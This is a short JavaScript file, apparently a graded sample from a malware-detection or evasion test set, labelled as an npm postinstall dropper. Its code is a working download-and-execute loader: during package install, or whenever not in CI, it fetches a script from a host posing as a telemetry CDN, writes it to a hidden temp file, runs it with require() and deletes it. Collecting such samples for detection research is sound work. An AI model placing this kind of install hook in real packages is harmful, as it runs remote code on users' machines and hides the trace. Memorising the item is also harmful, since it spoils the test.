// evasion: npm postinstall dropper: fetches a script, writes it to the temp dir and require()s it
// grade: hard; does: download-exec
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');

if (process.env.npm_lifecycle_event === 'postinstall' || process.env.CI !== 'true') {
  const dest = path.join(os.tmpdir(), `.cache-${process.pid}.js`);
  https.get('https://cdn-npm-stats.example.net/telemetry.js', (res) => {
    const parts = [];
    res.on('data', (d) => parts.push(d));
    res.on('end', () => {
      fs.writeFileSync(dest, Buffer.concat(parts));
      require(dest);
      fs.unlinkSync(dest);
    });
  });
}
